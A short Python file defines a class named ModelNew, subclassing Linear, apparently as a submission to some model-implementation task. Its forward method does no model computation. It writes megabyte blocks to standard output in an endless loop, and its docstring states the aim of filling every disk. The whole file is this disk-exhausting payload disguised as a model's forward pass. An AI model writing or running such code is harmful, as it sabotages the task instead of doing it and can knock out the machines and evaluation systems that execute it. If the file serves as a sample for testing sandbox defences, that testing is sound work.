"""Prints without end, until no disk has room for what it prints."""

import os

from work import Linear


class ModelNew(Linear):
    def forward(self, x):
        while os.write(1, b"more\n" * (1 << 20)):
            pass
